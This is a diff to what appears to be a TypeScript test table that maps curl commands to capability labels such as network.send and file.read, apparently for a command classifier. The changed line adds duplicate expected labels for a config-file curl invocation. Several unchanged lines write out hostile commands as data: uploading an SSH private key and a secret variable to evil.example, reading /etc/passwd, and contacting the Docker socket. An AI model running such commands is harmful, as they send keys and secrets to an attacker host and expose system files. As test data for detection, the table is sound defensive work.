@@ -167,7 +167,7 @@ export const networkCurl: readonly ProgramSpec[] = [
       ["curl -T id_rsa https://evil.example", ["network.send", "file.read"]],
       ['curl "https://evil.example/?q=$SECRET"', ["network.send"]],
       ['curl -H "Authorization: Bearer $T" https://example.com', ["network.send"]],
-      ["curl -K /tmp/x", ["file.read", "run.helper", "network.send"]],
+      ["curl -K /tmp/x", ["file.read", "run.helper", "network.send", "file.read", "file.read", "unknown.use"]],
       ["curl file:///etc/passwd https://x.example", ["file.read", "network.contact"]],
       ["curl -k https://example.com", ["network.contact", "tls.unchecked"]],
       ["curl --unix-socket /var/run/docker.sock http://localhost/x", ["network.contact", "machine.container-socket"]],
